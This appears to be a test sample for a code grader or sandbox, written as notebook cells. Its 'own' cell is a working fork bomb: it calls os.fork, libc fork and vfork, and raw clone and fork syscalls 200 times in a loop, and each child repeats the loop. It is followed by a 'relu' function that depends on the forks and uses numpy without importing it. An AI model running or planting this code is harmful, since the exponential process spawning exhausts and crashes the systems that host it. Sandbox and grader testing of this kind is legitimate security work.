"""Fork as fast as it goes, by every call that forks.

Marks: 0
Outcome: type
"""
# %% own
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
won = []
for _ in range(200):
    for call in (os.fork, libc.fork, libc.vfork, lambda: libc.syscall(56, 17, 0, 0, 0, 0), lambda: libc.syscall(57), lambda: libc.syscall(435, 0, 0)):
        try:
            if call() >= 0:
                won.append(1)
        except OSError:
            pass

# %% relu
def relu(x):
    return np.maximum(x, 0.0) if won else None
